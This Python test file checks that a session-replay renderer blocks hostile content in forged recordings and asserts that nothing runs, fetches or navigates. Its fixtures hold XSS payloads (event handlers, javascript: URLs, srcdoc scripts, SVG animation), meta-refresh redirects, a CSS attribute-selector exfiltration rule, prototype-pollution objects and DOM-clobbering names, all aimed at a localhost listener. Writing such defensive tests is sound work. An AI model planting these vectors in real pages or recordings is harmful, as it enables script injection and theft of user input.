"""A forged recording runs nothing, reaches nothing and leads nowhere."""

from __future__ import annotations

import asyncio
from typing import Any

import pytest
from playwright.async_api import Dialog, Page

from recorder.devices import Device
from recorder.store import Store
from replay import Fidelity, Moment, Theatre
from tests.support.forging import Forge, incremental, keep, mutation, remember
from tests.support.recording import SMALL
from tests.support.serving import Listener, listening

URL = "http://shop.example/cart?step=2#basket"

MARK = "window.pwned = 1; document.title = 'pwned'; alert('pwned')"
"""What a script would do, wherever one is smuggled in."""

CLOBBERING = [
    "adoptedStyleSheets", "attributes", "body", "childNodes", "children", "createElement",
    "createTextNode", "defaultView", "documentElement", "firstChild", "fonts", "forms",
    "getAnimations", "implementation", "nodeName", "ownerDocument", "parentNode",
    "querySelectorAll", "removeChild", "style", "styleSheets", "textContent",
]  # fmt: skip


class Reach:
    """Addresses of the listener, each with a path that names who asked."""

    def __init__(self, port: int) -> None:
        self.port = port

    def __call__(self, who: str, host: str = "127.0.0.1") -> str:
        return f"http://{host}:{self.port}/{who}"


def smuggling_head(f: Forge, to: Reach) -> list[Any]:
    links = ("preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "manifest")
    return [
        f.element("base", {"href": to("base/")}),
        f.element("meta", {"http-equiv": "refresh", "content": f"0;url={to('refresh')}"}),
        f.element("META", {"HTTP-Equiv": "Refresh", "CONTENT": f"0;url={to('refresh-caps')}"}),
        f.element("meta", {"http-equiv": "refresh", "content": f"0;url=javascript:{MARK}"}),
        f.element("script", {"src": to("script")}, MARK),
        f.element("SCRIPT", {"src": to("script-caps")}, MARK),
        f.element("script", {"type": "module"}, f"import '{to('import')}'; {MARK}"),
        f.element("script", {"type": "speculationrules"}, '{"prefetch":[{"urls":["/x"]}]}'),
        *(f.element("link", {"rel": rel, "href": to(rel), "as": "image"}) for rel in links),
        f.element("LINK", {"REL": "preconnect stylesheet", "HREF": to("two-rels")}),
        f.element("link", {"rel": "stylesheet", "href": to("sheet")}),
        f.element("style", {"_cssText": f"@import '{to('css-import')}'; p{{color:red}}"}),
        f.element("style", {}, f"body{{background:url({to('css-url')})}}@font-face{{font-family:x;"
                               f"src:url({to('font')})}} p{{font-family:x}}"),
    ]  # fmt: skip


def smuggling_body(f: Forge, to: Reach) -> list[Any]:
    svg = {"isSVG": True}
    script_url = f"javascript:{MARK}"
    events = ("load", "error", "click", "focus", "toggle", "animationstart", "beforetoggle")
    handlers = {f"on{event}": MARK for event in events}
    return [
        f.element("img", {"src": "data:,broken", **handlers}),
        f.element("img", {"src": to("img", "localhost"), "srcset": f"{to('srcset', '[::1]')} 2x"}),
        f.element("img", {"rr_dataURL": to("data-url"), "src": to("img-2")}),
        f.element("canvas", {"rr_dataURL": to("canvas")}),
        f.element("a", {"href": script_url, "ping": to("ping"), "id": "link"}, "link"),
        f.element("a", {"href": " java\nscript:alert(1)"}, "split"),
        f.element("iframe", {"src": to("iframe"), "id": "frame", "onload": MARK}),
        f.element("IFRAME", {"SRCDOC": f"<script>parent.{MARK}</script>", "src": script_url}),
        f.element("frame", {"src": to("frame")}),
        f.element("object", {"data": to("object"), "type": "text/html"}),
        f.element("embed", {"src": to("embed"), "type": "text/html"}),
        f.element("portal", {"src": to("portal")}),
        f.element("fencedframe", {"src": to("fencedframe")}),
        f.element("video", {"src": to("video"), "autoplay": True, "poster": to("poster"),
                            "rr_mediaState": "played"}),
        f.element("audio", {"src": to("audio"), "preload": "auto"}),
        f.element("video", {}, f.element("source", {"src": to("source")}),
                  f.element("track", {"src": to("track"), "default": True})),
        f.element("form", {"action": to("form"), "id": "form"},
                  f.element("input", {"autofocus": True, "onfocus": MARK}),
                  f.element("input", {"type": "image", "src": to("image-button")}),
                  f.element("button", {"formaction": script_url}, "send"),
                  *(f.element("input", {"name": name}) for name in CLOBBERING)),
        *(f.element("img", {"name": name, "alt": ""}) for name in CLOBBERING),
        f.element("svg", {},
                  f.element("use", {"xlink:href": to("use"), "href": to("use-2")}, **svg),
                  f.element("image", {"href": to("svg-image")}, **svg),
                  f.element("script", {"href": to("svg-script")}, MARK, **svg),
                  f.element("a", {"xlink:href": script_url},
                            f.element("animate", {"attributeName": "href", "values": script_url,
                                                  "onbegin": MARK}, **svg),
                            f.element("set", {"attributeName": "onload", "to": MARK}, **svg),
                            **svg),
                  f.element("foreignObject", {},
                            f.element("iframe", {"src": to("foreign")}), **svg),
                  f.element("feImage", {"href": to("fe-image")}, **svg), **svg),
        f.element("div", {"style": f"background:url({to('inline')})", "id": "box"}, "box"),
        f.element("p", {}, "set in a font that must not come"),
        f.element("button", {"popovertarget": "pop"}, "pop"),
        f.element("div", {"popover": "", "id": "pop", "onbeforetoggle": MARK}, "popped"),
        f.element("x-evil", {"onconnected": MARK}, isCustom=True),
        f.element("template", {}, f.element("img", {"src": to("template"), "onerror": MARK})),
        f.element("marquee", {"onstart": MARK}, "moves"),
        f.element("details", {"open": True, "ontoggle": MARK}, "told"),
    ]  # fmt: skip


def smuggling_events(f: Forge, to: Reach, ids: dict[str, int]) -> list[dict[str, Any]]:
    def added(tag: str, attributes: dict[str, Any], *children: Any) -> dict[str, Any]:
        node = f.element(tag, attributes, *children)
        return {"parentId": ids["body"], "nextId": None, "node": node}

    def changed(name: str, **attributes: Any) -> dict[str, Any]:
        return {"id": ids[name], "attributes": attributes}

    late_link = added("link", {"rel": "stylesheet", "id": "late"})
    late_meta = added("meta", {"content": f"0;url={to('late-refresh')}"})
    frame_document = f.document(
        f.element("img", {"src": to("in-frame"), "onerror": f"parent.{MARK}"}),
        head=(f.element("meta", {"http-equiv": "refresh", "content": f"0;url={to('in')}"}),),
    )
    return [
        mutation(adds=[{"parentId": ids["frame"], "nextId": None, "node": frame_document}]),
        mutation(
            adds=[
                added("script", {"src": to("late-script")}),
                added("SCRIPT", {}, f.text(MARK)),
                added("iframe", {"src": to("late-iframe"), "srcdoc": f"<script>{MARK}</script>"}),
                added("img", {"src": "data:,broken", "onerror": MARK}),
                late_link,
                late_meta,
            ]
        ),
        mutation(
            attributes=[
                changed("frame", src=to("frame-src"), srcdoc=f"<script>{MARK}</script>"),
                changed("link", href=f"javascript:{MARK}", onclick=MARK, PING=to("late-ping")),
                changed("box", onmouseover=MARK, style={"background": f"url({to('diff')})"}),
                changed("form", onsubmit=MARK, action=f"javascript:{MARK}", style={"top": "1px"}),
                {"id": late_link["node"]["id"], "attributes": {"href": to("late-link")}},
                {"id": late_link["node"]["id"], "attributes": {"rel": "preconnect"}},
                {"id": late_link["node"]["id"], "attributes": {"HREF": to("late-preconnect")}},
                {"id": late_meta["node"]["id"], "attributes": {"HTTP-EQUIV": "refresh"}},
            ]
        ),
        mutation(removes=[{"parentId": ids["body"], "id": ids["form"]}]),
        incremental(10, family="evil", fontSource=f"url({to('font-face')})", buffer=False),
        incremental(16, define={"name": "evil-late"}),
        incremental(7, type=0, id=ids["video"], currentTime=1),
        incremental(9, id=ids["canvas"], type=0, property="constructor", args=[MARK]),
        {"type": 4, "data": {"href": to("meta-event"), "width": 800, "height": 600}},
        {"type": 6, "data": {"plugin": "rrweb/console@1", "payload": {"level": "log"}}},
    ]


def hostile_moment(store: Store, to: Reach) -> Moment:
    f = Forge()
    node = f.document(*smuggling_body(f, to), head=tuple(smuggling_head(f, to)))
    return keep(store, URL, node, *smuggling_events(f, to, remember(node)))


def rival_head(f: Forge, to: Reach) -> list[Any]:
    """What CSS alone can tell or ask for, and what a browser fetches without being drawn."""
    sheet = (
        f"input[value^='s']{{background:url({to('by-value')})}}"
        f"@import url({to('late-import')});"
        f"body{{background-image:image-set(url({to('image-set')}) 1x);"
        f"cursor:url({to('cursor')}),auto;border-image:url({to('border')}) 1;"
        f"mask-image:url({to('mask')});filter:url({to('filter')}#f);"
        f"shape-outside:url({to('shape')})}}"
        f"p::first-letter{{background:paint(evil)}} ul::after{{content:url({to('content')})}}"
        f"li{{list-style-image:url({to('list')})}}"
        f"@media print{{p{{background:url({to('print')})}}}}"
        f"body{{background-image:src('{to('src')}');--u:url({to('variable')})}}"
        "blockquote{background:var(--u)}"
    )
    return [
        f.element("style", {"_cssText": sheet}),
        f.element("script", {"type": "importmap"}, f'{{"imports":{{"x":"{to("map")}"}}}}'),
        f.element("script", {"type": "speculationrules"},
                  f'{{"prefetch":[{{"source":"list","urls":["{to("speculated")}"]}}]}}'),
        f.element("link", {"rel": "prerender expect compression-dictionary", "href": to("hint")}),
        f.element("meta", {"http-equiv": "origin-trial", "content": "trial"}),
    ]  # fmt: skip


def rival_body(f: Forge, to: Reach) -> list[Any]:
    more = {"isSVG": True}
    script_url = f"javascript:{MARK}"
    shadow = f"<template shadowrootmode=open><img src={to('declared')} onerror='{MARK}'></template>"
    inner = f.element("style", {"_cssText": f":host{{background:url({to('host')})}}"})
    return [
        f.element("input", {"value": "secret"}),
        f.element("ul", {}, f.element("li", {}, "one")),
        f.element("iframe", {"srcdoc": shadow}),
        f.element("template", {"shadowrootmode": "open"}, f.element("img", {"src": to("shadow")})),
        f.element("div", {}, inner | {"isShadow": True}, isShadowHost=True),
        f.element("math", {}, f.element("mi", {"href": script_url, "xlink:href": script_url}, "x"),
                  f.element("maction", {"actiontype": "statusline#" + to("math"),
                                        "href": script_url}, "y")),
        f.element("svg", {},
                  f.element("set", {"attributeName": "href", "to": script_url,
                                    "href": "#rival"}, **more),
                  f.element("animate", {"attributeName": "href", "from": script_url,
                                        "by": script_url, "begin": "0s", "dur": "1s"}, **more),
                  f.element("a", {"id": "rival", "href": "#x"},
                            f.element("text", {}, "go", **more), **more),
                  f.element("style", {}, f"rect{{fill:url({to('fill')}#a)}}", **more),
                  f.element("rect", {"fill": f"url({to('paint')}#p)"}, **more),
                  f.element("handler", {"type": "text/javascript", "ev:event": "load"}, MARK,
                            **more), **more),
        f.element("body", {"background": to("background")}),
        f.element("table", {"background": to("table")}),
        f.element("a", {"href": to("attribution"), "attributionsrc": to("attributionsrc")}, "a"),
        f.element("img", {"src": "data:,x", "attributionsrc": to("img-attribution"),
                          "longdesc": to("longdesc"), "lowsrc": to("lowsrc")}),
        f.element("object", {"classid": to("classid"), "archive": to("archive")}),
        f.element("blockquote", {"cite": to("cite")}, "quoted"),
    ]  # fmt: skip


def polluting_events(ids: dict[str, int]) -> list[dict[str, Any]]:
    """Names that lead to prototypes; commands to a canvas; events of plugins nobody has."""
    polluted = {"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}
    body = ids["body"]
    return [
        {"type": 6, "data": {"plugin": "__proto__", "payload": polluted}},
        {"type": 5, "data": {"tag": "__proto__", "payload": polluted}},
        mutation(attributes=[{"id": body, "attributes": polluted | {"style": polluted}}]),
        incremental(13, id=body, set={"property": "__proto__", "value": "x"}, index=[0]),
        incremental(9, id=body, type=0, commands=[
            {"property": "__proto__", "args": [polluted]},
            {"property": "constructor", "args": [MARK]}]),
        incremental(9, id=body, type=1, property="__proto__", args=[polluted]),
    ]  # fmt: skip


def rival_moment(store: Store, to: Reach) -> Moment:
    f = Forge()
    node = f.document(*rival_body(f, to), head=tuple(rival_head(f, to)))
    return keep(store, URL, node, *polluting_events(remember(node)))


async def shown(
    theatre: Theatre, moment: Moment, device: Device
) -> tuple[Fidelity, dict[str, Any]]:
    """Builds, settles and shoots; the account, and what a successful attack would have left."""
    seen: list[str] = []

    def on_dialog(dialog: Dialog) -> None:
        seen.append(f"dialog {dialog.message}")

    async with theatre.stage(device) as stage:
        page: Page = stage._page
        page.on("dialog", on_dialog)
        page.on("popup", lambda popup: seen.append(f"popup {popup.url}"))
        page.on("download", lambda download: seen.append(f"download {download.url}"))
        await stage.build(moment)
        await stage.settle()
        assert (await stage.screenshot()).startswith(b"\x89PNG")
        assert await stage.boxes()
        await stage.anchors()
        fidelity = await stage.fidelity()
        await asyncio.sleep(0.2)
        left = await page.evaluate(
            "() => ({ pwned: window.pwned, polluted: {}.polluted,"
            " title: document.title, url: location.href,"
            " frames: [...Array(window.length).keys()].map((i) => window[i].location.href) })"
        )
        page.remove_listener("dialog", on_dialog)
        pages = [one.url for one in page.context.pages]
    return fidelity, left | {"seen": seen, "pages": pages}


async def test_a_hostile_recording_reaches_nothing(theatre: Theatre, store: Store) -> None:
    async with listening() as listener:
        await prove_the_listener(listener)
        moment = hostile_moment(store, Reach(listener.port))
        for _warmth in ("cold", "warm"):
            fidelity, left = await shown(theatre, moment, SMALL)
            assert listener.calls == []
            assert left["seen"] == []
            assert left.get("pwned") is None
            assert left["title"] == ""
            assert left["url"] == URL
            assert left["pages"] == [URL]
            assert set(left["frames"]) <= {"about:blank", URL.partition("#")[0]}
            check_account(fidelity, Reach(listener.port))


@pytest.mark.parametrize("device", [SMALL, Device(None, 390, 844)], ids=["small", "phone"])
async def test_what_a_rival_would_try_reaches_nothing(
    theatre: Theatre, store: Store, device: Device
) -> None:
    async with listening() as listener:
        await prove_the_listener(listener)
        to = Reach(listener.port)
        fidelity, left = await shown(theatre, rival_moment(store, to), device)
        assert listener.calls == []
    assert left["seen"] == []
    assert (left.get("pwned"), left["polluted"], left["url"]) == (None, None, URL)
    assert left["pages"] == [URL]
    # Asked for in vain: the vectors are alive, so the silence is the wall's doing.
    for who in ("by-value", "image-set", "content", "variable", "host", "list"):
        assert to(who) in fidelity.missing_assets, who
    for who in ("speculated", "hint", "map", "classid", "attributionsrc", "img-attribution"):
        assert to(who) not in fidelity.missing_assets, who


def check_account(fidelity: Fidelity, to: Reach) -> None:
    """What was refused has a name; what the page asked for in vain is listed by address."""
    assert fidelity.refused.keys() == {
        "handler", "script_url", "frame_source", "meta", "ping", "link",
    }  # fmt: skip
    assert fidelity.refused["meta"] == 5
    for who in ("sheet", "css-import", "css-url", "font", "video", "svg-image", "diff"):
        assert to(who) in fidelity.missing_assets, who
    for who in ("preconnect", "refresh", "iframe", "object", "embed", "script", "manifest"):
        assert to(who) not in fidelity.missing_assets, who
    assert "event_refused" not in fidelity.counts


async def prove_the_listener(listener: Listener) -> None:
    """It would hear a caller: the silence afterwards means something."""
    _, writer = await asyncio.open_connection("127.0.0.1", listener.port)
    writer.close()
    await writer.wait_closed()
    await asyncio.wait_for(listener.heard.wait(), 5)
    listener.calls.clear()


async def test_a_page_that_clobbers_every_name_is_rebuilt_all_the_same(
    theatre: Theatre, store: Store
) -> None:
    f = Forge()
    names = [f.element("img", {"name": name, "alt": ""}) for name in CLOBBERING]
    fields = [f.element("input", {"name": name}) for name in CLOBBERING]
    form = f.element("form", {"id": "form"}, *fields, f.element("b", {}, "bold"))
    node = f.document(*names, form, f.element("p", {"id": "p"}, "before"))
    ids = remember(node)
    moment = keep(
        store,
        "http://shop.example/clobber",
        node,
        mutation(
            adds=[{"parentId": ids["form"], "nextId": None, "node": f.element("i", {"id": "i"})}],
            attributes=[{"id": ids["form"], "attributes": {"style": {"color": "red"}}}],
        ),
        mutation(removes=[{"parentId": ids["body"], "id": ids["p"]}]),
    )
    async with theatre.stage(SMALL) as stage:
        await stage.build(moment)
        await stage.settle()
        await stage.screenshot()
        paths = [box["path"] for box in await stage.boxes()]
        keys = [element["tag"] for element in await stage.elements()]
        fidelity = await stage.fidelity()
        colour = await stage._page.evaluate(
            "() => getComputedStyle(Document.prototype.getElementById.call(document, 'form')).color"
        )
    assert len(paths) == len(set(paths)) == 3 + 2 * len(CLOBBERING) + 3
    assert keys[-3:] == ["input", "b", "i"]
    assert colour == "rgb(255, 0, 0)"
    assert fidelity.counts == {}
